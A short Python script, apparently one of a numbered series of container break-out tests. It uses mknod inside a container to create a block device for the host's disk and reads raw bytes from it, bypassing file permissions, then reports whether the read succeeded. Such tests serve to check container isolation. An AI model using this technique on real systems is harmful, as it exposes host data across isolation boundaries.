#!/usr/bin/python3
"""Break-out 05: read the host's disk, past all files and permissions, from a container."""

import os
import re
import sys

sys.path.insert(0, os.path.join(sys.path[0], ".."))
from attack import Attack

attack = Attack()

# Root can make a device file for any device, and its numbers are no secret.
device = os.stat("/var/lib/workshop").st_dev
major, minor = os.major(device), os.minor(device)
script = f"mknod /tmp/disk b {major} {minor} && head -c 4096 /tmp/disk | wc -c; rm -f /tmp/disk"
process = attack.inside("sh", "-c", script)
worked = re.fullmatch(r"4096\s*", process.stdout) is not None
attack.report(f"read the disk {major}:{minor} byte by byte", worked, process)

attack.end()
